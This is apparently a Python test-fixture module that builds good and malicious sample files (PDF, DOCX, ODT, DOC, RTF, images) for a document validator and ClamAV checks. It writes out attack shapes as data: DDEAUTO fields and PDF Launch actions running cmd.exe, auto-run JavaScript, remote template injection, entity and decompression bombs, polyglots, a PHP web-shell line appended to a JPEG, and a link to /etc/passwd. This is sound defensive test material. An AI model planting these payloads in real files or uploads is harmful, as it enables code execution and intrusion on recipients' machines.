"""Good and bad sample files, built in memory (no downloads, no files on disk).

Each builder returns bytes. `BAD` lists every bad case with the rule that must reject it;
`GOOD` has one small valid file of each kind. The malware marker is a test-only string that
the ClamAV test database in tests/clamav/ matches (see tests/clamav/README.md).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.support.cfb import build_cfb

#: Matched by tests/clamav/enclose-test.ndb as "Enclose.Test.Marker". Harmless text.
MALWARE_MARKER = b"ENCLOSE-TEST-MALWARE-MARKER-6b1f0c2e-not-a-real-virus"


def eicar() -> bytes:
    """The industry-standard anti-virus test file, assembled so this source is not flagged."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --------------------------------------------------------------------------- PDF


def raw_pdf(objects: list[bytes], *, root: int = 1, header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A PDF from object bodies (object n is objects[n-1]) with a correct xref table."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def _pdf_objects(catalog_extra: bytes = b"", page_extra: bytes = b"", content: bytes | None = None) -> list[bytes]:
    content = content if content is not None else b"BT /F1 24 Tf 72 720 Td (Dear patient) Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        _stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def pdf_good() -> bytes:
    """One page of text, written by hand."""
    return raw_pdf(_pdf_objects())


def _pikepdf_edit(edit: Callable[..., None], **save_args: object) -> bytes:
    import pikepdf

    with pikepdf.open(io.BytesIO(pdf_good())) as pdf:
        edit(pdf)
        out = io.BytesIO()
        pdf.save(out, **save_args)
        return out.getvalue()


def pdf_with(catalog_extra: bytes = b"", page_extra: bytes = b"", extra_objects: list[bytes] | None = None) -> bytes:
    """The good PDF with raw additions to the catalog or page, and extra objects (6, 7, ...)."""
    return raw_pdf(_pdf_objects(catalog_extra, page_extra) + (extra_objects or []))


def pdf_javascript_names() -> bytes:
    """Document-level JavaScript in the /Names tree."""
    return pdf_with(
        b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >> ",
        extra_objects=[b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
    )


def pdf_javascript_open_action() -> bytes:
    return pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")


def pdf_javascript_hex_name() -> bytes:
    """The action type written with a #-escaped name, as obfuscators do."""
    return pdf_with(b"/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >> ")


def pdf_javascript_in_object_stream() -> bytes:
    """JavaScript on a link annotation, hidden in a compressed object stream."""
    import pikepdf

    def edit(pdf: pikepdf.Pdf) -> None:
        action = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
        annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))

    return _pikepdf_edit(edit, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def pdf_launch() -> bytes:
    return pdf_with(
        page_extra=b"/Annots [6 0 R] ",
        extra_objects=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>"],
    )


def pdf_embedded_file() -> bytes:
    import pikepdf

    def edit(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["note.txt"] = pikepdf.AttachedFileSpec(pdf, b"hidden inside", mime_type="text/plain")

    return _pikepdf_edit(edit)


def pdf_file_attachment_annotation() -> bytes:
    return pdf_with(
        page_extra=b"/Annots [6 0 R] ",
        extra_objects=[b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (x.exe) >>"],
    )


def pdf_rich_media() -> bytes:
    return pdf_with(
        page_extra=b"/Annots [6 0 R] ",
        extra_objects=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>"],
    )


def pdf_xfa() -> bytes:
    return pdf_with(
        b"/AcroForm << /Fields [] /XFA 6 0 R >> ",
        extra_objects=[_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")],
    )


def pdf_submit_form() -> bytes:
    return pdf_with(
        page_extra=b"/Annots [6 0 R] ",
        extra_objects=[
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] "
            b"/A << /S /SubmitForm /F (https://example.invalid/collect) >> >>"
        ],
    )


def pdf_open_action_uri() -> bytes:
    return pdf_with(b"/OpenAction << /S /URI /URI (https://example.invalid/track) >> ")


def pdf_page_open_uri() -> bytes:
    """A page's additional action (/AA /O: runs when the page opens) that opens a web address."""
    return pdf_with(page_extra=b"/AA << /O << /S /URI /URI (https://example.invalid/) >> >> ")


def pdf_open_action_goto_then_uri() -> bytes:
    """A harmless-looking go-to whose /Next chain opens a web address."""
    return pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://example.invalid/) >> >> ")


def pdf_open_action_destination() -> bytes:
    """Good: open at page one, fitted to the window."""
    return pdf_with(b"/OpenAction [3 0 R /Fit] ")


def pdf_open_action_goto() -> bytes:
    """Good: a go-to action to page one."""
    return pdf_with(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ")


def pdf_web_link() -> bytes:
    """Good: an ordinary web link the patient can click."""
    return pdf_with(
        page_extra=b"/Annots [6 0 R] ",
        extra_objects=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.nhs.uk/) >> >>"
        ],
    )


def pdf_file_link() -> bytes:
    return pdf_with(
        page_extra=b"/Annots [6 0 R] ",
        extra_objects=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (file:///C:/Windows/) >> >>"
        ],
    )


def pdf_goto_remote() -> bytes:
    return pdf_with(
        page_extra=b"/Annots [6 0 R] ",
        extra_objects=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
            b"/A << /S /GoToR /F (\\\\\\\\host\\\\x.pdf) /D [0 /Fit] >> >>"
        ],
    )


def pdf_encrypted_user_password() -> bytes:
    import pikepdf

    return _pikepdf_edit(lambda pdf: None, encryption=pikepdf.Encryption(owner="owner-secret", user="open-secret"))


def pdf_encrypted_owner_only() -> bytes:
    """Good: restrictions set by an owner password, but no password to open it."""
    import pikepdf

    return _pikepdf_edit(
        lambda pdf: None,
        encryption=pikepdf.Encryption(owner="owner-secret", user="", allow=pikepdf.Permissions(modify_other=False)),
    )


def pdf_truncated() -> bytes:
    data = pdf_good()
    return data[: len(data) // 2]


def pdf_trailing_data() -> bytes:
    return pdf_good() + b"extra bytes appended after the end of the PDF\n"


def pdf_zip_polyglot() -> bytes:
    """A PDF with a ZIP archive appended: a ZIP reader opens the same file as an archive."""
    return pdf_good() + zip_bytes({"payload.txt": b"hello"})


def pdf_html_polyglot() -> bytes:
    """A PDF whose header comment is also a web page with a script."""
    return raw_pdf(_pdf_objects(), header=b"%PDF-1.7\n%<html><script>alert(1)</script></html>\n")


def pdf_no_pages() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_garbage() -> bytes:
    """A PDF header and end marker around nothing a PDF reader can repair."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"


def pdf_bad_xref_repairable() -> bytes:
    """Good: every xref offset is off by 3, but the objects are intact, so readers rebuild it."""
    import re

    data = pdf_good()
    head, _, rest = data.partition(b"xref\n")
    rest = re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m.group(1)) + 3), rest)
    return head + b"xref\n" + rest


def pdf_corrupt_content_stream() -> bytes:
    """A page whose compressed content cannot be decoded."""
    objs = _pdf_objects()
    objs[3] = _stream(b"x\x9c\xff\xff\xff\xff not deflate data", b"/Filter /FlateDecode ")
    return raw_pdf(objs)


def pdf_with_marker() -> bytes:
    """Good for the validator, but carries the test malware marker in a compressed stream."""
    content = b"BT /F1 12 Tf 72 720 Td (" + MALWARE_MARKER + b") Tj ET"
    objs = _pdf_objects()
    objs[3] = _stream(zlib.compress(content), b"/Filter /FlateDecode ")
    return raw_pdf(objs)


# --------------------------------------------------------------------------- ZIP, DOCX, ODT


def zip_bytes(entries: dict[str, bytes], *, stored: set[str] | None = None) -> bytes:
    """A ZIP of `entries` in order; names in `stored` are not compressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data, zipfile.ZIP_STORED if stored and name in stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _docx_document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def _rels(rels: list[tuple[str, str, str, bool]]) -> bytes:
    items = "".join(
        f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"' + (' TargetMode="External"' if ext else "") + "/>"
        for rid, rtype, target, ext in rels
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">{items}</Relationships>'.encode()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PARAGRAPH = "<w:p><w:r><w:t>Dear patient, your results are normal.</w:t></w:r></w:p>"


def docx(
    body: str = PARAGRAPH,
    *,
    doc_rels: list[tuple[str, str, str, bool]] | None = None,
    extra_parts: dict[str, bytes] | None = None,
    main_type: str = DOC_MAIN,
    overrides: dict[str, str] | None = None,
) -> bytes:
    """A minimal DOCX: content types, package rels, the document and its rels."""
    override_xml = "".join(
        f'<Override PartName="/{part}" ContentType="{ct}"/>'
        for part, ct in {"word/document.xml": main_type, **(overrides or {})}.items()
    )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{override_xml}</Types>"
    ).encode()
    parts = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": _rels([("rId1", REL + "officeDocument", "word/document.xml", False)]),
        "word/document.xml": _docx_document(body),
    }
    if doc_rels is not None:
        parts["word/_rels/document.xml.rels"] = _rels(doc_rels)
    parts.update(extra_parts or {})
    return zip_bytes(parts)


def _field(instruction_runs: list[str]) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in instruction_runs)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_good() -> bytes:
    """Good: text, a page-number field and a web link."""
    body = (
        PARAGRAPH
        + _field([" PAGE "])
        + '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>NHS website</w:t></w:r></w:hyperlink></w:p>'
    )
    return docx(body, doc_rels=[("rId9", REL + "hyperlink", "https://www.nhs.uk/", True)])


def docx_macros() -> bytes:
    """A macro-enabled document (.docm) with its VBA project."""
    return docx(
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        doc_rels=[
            ("rId2", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
        ],
        extra_parts={"word/vbaProject.bin": build_cfb({"VBA/dir": b"x", "PROJECT": b"x"})},
        overrides={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
    )


def docx_vba_part_only() -> bytes:
    """A VBA project part slipped into an ordinary DOCX, without a relationship."""
    return docx(extra_parts={"word/vbaProject.bin": b"not referenced but present" * 10})


def docx_remote_template() -> bytes:
    """The classic template-injection attack: settings point at a remote template."""
    return docx(
        extra_parts={
            "word/settings.xml": f'<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:attachedTemplate r:id="rId1"/>'
            f"</w:settings>".encode(),
            "word/_rels/settings.xml.rels": _rels(
                [("rId1", REL + "attachedTemplate", "https://example.invalid/t.dotm", True)]
            ),
        }
    )


def docx_remote_image() -> bytes:
    return docx(doc_rels=[("rId5", REL + "image", "https://example.invalid/pixel.png", True)])


def docx_dde_split() -> bytes:
    """A DDEAUTO field whose instruction is split over runs, as Word writes it."""
    return docx(_field([" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"']))


def docx_dde_simple() -> bytes:
    return docx('<w:p><w:fldSimple w:instr=" DDE c:\\\\x.exe"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def docx_includepicture() -> bytes:
    return docx(_field([' INCLUDEPICTURE "https://example.invalid/x.png" \\d ']))


def docx_ole_object() -> bytes:
    return docx(
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rId7"/>'
        "</w:object></w:r></w:p>",
        doc_rels=[("rId7", REL + "oleObject", "embeddings/oleObject1.bin", False)],
        extra_parts={"word/embeddings/oleObject1.bin": build_cfb({"\x01Ole10Native": b"payload"})},
    )


def docx_activex() -> bytes:
    return docx(
        doc_rels=[("rId8", REL + "control", "activeX/activeX1.xml", False)],
        extra_parts={
            "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
        },
    )


def docx_unsafe_link() -> bytes:
    return docx(
        '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>open</w:t></w:r></w:hyperlink></w:p>',
        doc_rels=[("rId9", REL + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)],
    )


def docx_nested_zip() -> bytes:
    return docx(extra_parts={"word/media/image1.png": zip_bytes({"inner.txt": b"x"})})


def docx_entity_bomb() -> bytes:
    """'Billion laughs': XML entities that expand exponentially."""
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>'
    )
    return docx(extra_parts={"word/document.xml": bomb.encode()})


def docx_broken_xml() -> bytes:
    return docx(extra_parts={"word/document.xml": _docx_document(PARAGRAPH)[:-20]})


def docx_missing_main() -> bytes:
    data = docx()
    return _zip_without(data, "word/document.xml", keep_word_dir=True)


def _zip_without(data: bytes, name: str, *, keep_word_dir: bool = False) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        entries = {i.filename: zf.read(i) for i in zf.infolist() if i.filename != name}
    if keep_word_dir:
        entries["word/styles.xml"] = f'<w:styles xmlns:w="{W_NS}"/>'.encode()
    return zip_bytes(entries)


def docx_ratio_bomb() -> bytes:
    """One entry of 2 MiB of zeros: it compresses about 1000:1."""
    return docx(extra_parts={"word/media/blank.bin": bytes(2 * 1024 * 1024)})


def docx_total_bomb() -> bytes:
    """101 entries of exactly 1 MiB each (below the ratio floor): 101 MiB in all."""
    return docx(extra_parts={f"word/media/p{i}.bin": bytes(1024 * 1024) for i in range(101)})


def docx_with_entries(total: int) -> bytes:
    """A DOCX with exactly `total` ZIP entries."""
    base = 3  # content types, package rels, document
    return docx(extra_parts={f"docProps/x{i}.txt": b"x" for i in range(total - base)})


def docx_encrypted_entry() -> bytes:
    """The 'encrypted' flag set on the document entry (local and central headers)."""
    data = bytearray(docx())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (pos := data.find(signature, start)) >= 0:
            name_len_offset = 26 if signature == b"PK\x03\x04" else 28
            name_start = pos + (30 if signature == b"PK\x03\x04" else 46)
            (name_len,) = struct.unpack_from("<H", data, pos + name_len_offset)
            if data[name_start : name_start + name_len] == b"word/document.xml":
                data[pos + flag_offset] |= 0x01
            start = pos + 4
    return bytes(data)


def docx_duplicate_names() -> bytes:
    out = io.BytesIO()
    good = docx()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w") as zf:
        for info in src.infolist():
            zf.writestr(info.filename, src.read(info))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zf.writestr("WORD/document.xml", _docx_document("<w:p/>"))
    return out.getvalue()


def docx_trailing_data() -> bytes:
    return docx() + b"extra bytes after the archive"


def docx_truncated() -> bytes:
    data = docx()
    return data[: len(data) - 30]


def docx_corrupt_entry() -> bytes:
    """One byte of the compressed document changed: its checksum no longer matches."""
    data = bytearray(docx())
    pos = data.find(b"word/document.xml") + len("word/document.xml") + 10
    data[pos] ^= 0xFF
    return bytes(data)


def docx_html_in_first_entry() -> bytes:
    """A stored first entry that makes the file's first bytes a web page."""
    entries = {"a.html": b"<html><script>alert(1)</script></html>"}
    with zipfile.ZipFile(io.BytesIO(docx())) as zf:
        entries.update({i.filename: zf.read(i) for i in zf.infolist()})
    return zip_bytes(entries, stored={"a.html"})


def docx_with_marker() -> bytes:
    """Good for the validator, but carries the malware marker in compressed text."""
    return docx(f"<w:p><w:r><w:t>{MALWARE_MARKER.decode()}</w:t></w:r></w:p>")


ODT_MIME = b"application/vnd.oasis.opendocument.text"
OFFICE_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'office:version="1.3"'
)


def odt(body: str = "<text:p>Dear patient, your results are normal.</text:p>", *,
        before_body: str = "", extra_parts: dict[str, bytes] | None = None,
        mimetype: bytes = ODT_MIME, manifest_extra: str = "") -> bytes:  # fmt: skip
    """A minimal ODT: mimetype (first, stored), manifest, content."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {OFFICE_NS}>{before_body}'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    ).encode()
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype.decode()}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        f"{manifest_extra}</manifest:file-entry></manifest:manifest>"
    ).encode()
    parts = {"mimetype": mimetype, "META-INF/manifest.xml": manifest, "content.xml": content}
    parts.update(extra_parts or {})
    return zip_bytes(parts, stored={"mimetype"})


def odt_good() -> bytes:
    """Good: text, a web link and a picture stored inside the package."""
    return odt(
        '<text:p>Results: <text:a xlink:type="simple" xlink:href="https://www.nhs.uk/">NHS</text:a></text:p>'
        '<text:p><draw:frame><draw:image xlink:href="Pictures/p.png" xlink:type="simple"/></draw:frame></text:p>',
        extra_parts={"Pictures/p.png": png_good()},
    )


def odt_basic_macros() -> bytes:
    return odt(
        extra_parts={
            "Basic/Standard/Module1.xml": b'<?xml version="1.0"?><module xmlns="urn:x">Sub Main\nEnd Sub</module>'
        }
    )


def odt_event_listener() -> bytes:
    """A document-open event bound to a script."""
    return odt(
        before_body='<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>'
        "</office:event-listeners></office:scripts>"
    )


def odt_embedded_object() -> bytes:
    return odt(
        '<text:p><draw:frame><draw:object xlink:href="./Object 1" xlink:type="simple"/></draw:frame></text:p>',
        extra_parts={"Object 1/content.xml": b'<?xml version="1.0"?><x/>'},
    )


def odt_remote_image() -> bytes:
    return odt('<text:p><draw:frame><draw:image xlink:href="https://example.invalid/p.png"/></draw:frame></text:p>')


def odt_linked_section() -> bytes:
    return odt('<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/></text:section>')


def odt_dde() -> bytes:
    return odt(
        before_body='<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>'
    )


def odt_unsafe_link() -> bytes:
    return odt(
        '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic">x</text:a></text:p>'
    )


def odt_encrypted() -> bytes:
    return odt(manifest_extra='<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>')


def odt_wrong_first_entry() -> bytes:
    """The mimetype entry is not first, so readers may not recognise the file."""
    data = odt()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        entries = {i.filename: zf.read(i) for i in zf.infolist()}
    mimetype = entries.pop("mimetype")
    entries["mimetype"] = mimetype
    return zip_bytes(entries)


def docx_wrong_main_type() -> bytes:
    """The main part declared as a spreadsheet: not a word-processing document after all."""
    return docx(main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")


def odt_missing_content() -> bytes:
    return _zip_without(odt(), "content.xml")


def odt_spreadsheet() -> bytes:
    return odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")


# --------------------------------------------------------------------------- DOC


def _fib(flags: int = 0x0200) -> bytes:
    """The start of a Word 97 FIB: magic, version, and the flags word at 0x0A."""
    return struct.pack("<HH6sH", 0xA5EC, 0x00C1, b"\x00" * 6, flags).ljust(0x200, b"\x00")


def doc(text: bytes = b"Dear patient, your results are normal.", *, flags: int = 0x0200,
        extra: dict[str, bytes] | None = None) -> bytes:  # fmt: skip
    """A DOC-shaped compound file: WordDocument (FIB + text), the table stream and more."""
    streams = {
        "WordDocument": _fib(flags) + text,
        "1Table" if flags & 0x0200 else "0Table": b"\x00" * 64,
        "\x05SummaryInformation": b"\xfe\xff" + b"\x00" * 46,
    }
    streams.update(extra or {})
    return build_cfb(streams)


def doc_macros() -> bytes:
    return doc(extra={"Macros/VBA/dir": b"x", "Macros/VBA/ThisDocument": b"x", "Macros/PROJECT": b"x"})


def doc_embedded_object() -> bytes:
    return doc(extra={"ObjectPool/_1234567/\x01Ole10Native": b"payload", "ObjectPool/_1234567/\x01CompObj": b"x"})


def doc_encrypted() -> bytes:
    return doc(flags=0x0200 | 0x0100)


def doc_dde() -> bytes:
    return doc(b'Dear patient \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14x\x15')


def doc_dde_utf16() -> bytes:
    return doc("Dear patient \x13 DDE cmd \x14x\x15".encode("utf-16-le"))


def doc_missing_table() -> bytes:
    return build_cfb({"WordDocument": _fib() + b"text"})


def doc_truncated() -> bytes:
    data = doc()
    return data[: len(data) - 2048]


def ole_spreadsheet() -> bytes:
    return build_cfb({"Workbook": b"x"})


def ole_encrypted_ooxml() -> bytes:
    """How Office stores a password-protected DOCX: an OLE file holding the encrypted package."""
    return build_cfb({"EncryptionInfo": b"x", "EncryptedPackage": b"x"})


# --------------------------------------------------------------------------- RTF, TXT


def rtf(body: bytes = b"Dear patient, your results are normal.\\par") -> bytes:
    return b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Helvetica;}}\\f0\\fs24 " + body + b"}\n"


def rtf_good() -> bytes:
    """Good: text, an escaped character, a unicode character and a hyperlink field."""
    return rtf(
        b'Caf\\\'e9 \\u8364? results\\par{\\field{\\*\\fldinst{HYPERLINK "https://www.nhs.uk/"}}{\\fldrslt{NHS}}}\\par'
    )


def rtf_object() -> bytes:
    return rtf(b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}")


def rtf_objdata_only() -> bytes:
    return rtf(b"{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}")


def rtf_datastore() -> bytes:
    return rtf(b"{\\*\\datastore 0105000002000000}")


def rtf_dde() -> bytes:
    return rtf(b'{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}{\\fldrslt x}}')


def rtf_dde_obfuscated() -> bytes:
    """DDE spelt with a hex escape, a unicode escape and a group split, as Word still reads it."""
    return rtf(b"{\\field{\\*\\fldinst \\'44\\u68?{E}AUTO cmd}{\\fldrslt x}}")


def rtf_template() -> bytes:
    return rtf(b"{\\*\\template https://example.invalid/t.dotm}")


def rtf_bin() -> bytes:
    return rtf(b"{\\pict\\bin4 \x01\x02\x03\x04}")


def rtf_unbalanced() -> bytes:
    return b"{\\rtf1\\ansi {\\b bold text\\par}\n"


def rtf_after_end() -> bytes:
    return rtf() + b"{\\object}"


def rtf_control_bytes() -> bytes:
    return rtf(b"bell \x07 here")


def txt_good() -> bytes:
    return "Dear patient,\r\nYour results are normal. Café £5.\n\fPage 2\n".encode()


def txt_cp1252() -> bytes:
    return "Dear patient, caf\u00e9 \u00a35 \u2013 results".encode("cp1252")


def txt_utf16() -> bytes:
    return "Dear patient, résultats normaux.".encode("utf-16")


def txt_control() -> bytes:
    return b"Dear patient \x1b[31m red \x1b[0m"


def txt_html() -> bytes:
    return b"  <!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def txt_svg() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


# --------------------------------------------------------------------------- images


def _image(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: object) -> bytes:
    from PIL import Image

    img = Image.new(mode, size, "white" if mode != "1" else 1)
    out = io.BytesIO()
    img.save(out, fmt, **save)
    return out.getvalue()


def jpeg_good() -> bytes:
    return _image("JPEG", quality=80)


def png_good() -> bytes:
    return _image("PNG")


def tiff_good() -> bytes:
    """Good: a two-page fax-style TIFF, as a scanner writes."""
    from PIL import Image

    pages = [Image.new("1", (200, 100), 1), Image.new("1", (200, 100), 0)]
    out = io.BytesIO()
    pages[0].save(out, "TIFF", compression="group4", save_all=True, append_images=pages[1:])
    return out.getvalue()


def tiff_pages(count: int) -> bytes:
    from PIL import Image

    pages = [Image.new("1", (8, 8), 1) for _ in range(count)]
    out = io.BytesIO()
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:])
    return out.getvalue()


def png_of_pixels(width: int, height: int) -> bytes:
    """A real, fully decodable black-and-white PNG of the given size (tiny when compressed)."""
    return _image("PNG", (width, height), mode="1", optimize=False)


def png_header_claims(width: int, height: int) -> bytes:
    """A PNG whose header claims a huge size, with almost no data: a decompression bomb shape."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")
    )


def png_truncated() -> bytes:
    data = _image("PNG", (300, 300), mode="RGB")
    return data[: len(data) // 2]


def png_bad_crc() -> bytes:
    data = bytearray(png_good())
    pos = data.find(b"IDAT") + 6
    data[pos] ^= 0xFF
    return bytes(data)


def png_trailing() -> bytes:
    return png_good() + b"hidden payload after the picture"


def jpeg_truncated() -> bytes:
    from PIL import Image

    img = Image.effect_noise((256, 256), 64).convert("RGB")
    out = io.BytesIO()
    img.save(out, "JPEG")
    data = out.getvalue()
    return data[: len(data) // 2]


def jpeg_zip_polyglot() -> bytes:
    return jpeg_good() + zip_bytes({"payload.js": b"alert(1)"})


def jpeg_trailing() -> bytes:
    return jpeg_good() + b"<?php system($_GET['c']); ?>"


def jpeg_with_second_image() -> bytes:
    """Good: a second JPEG after the first, as phones store depth or HDR maps (MPF)."""
    return jpeg_good() + jpeg_good()


def jpeg_html_comment() -> bytes:
    """A JPEG comment segment that is a web page (old browsers sniffed these as HTML)."""
    data = jpeg_good()
    comment = b"<html><script>alert(1)</script></html>"
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:]


def tiff_truncated() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.effect_noise((200, 200), 64).save(out, "TIFF")
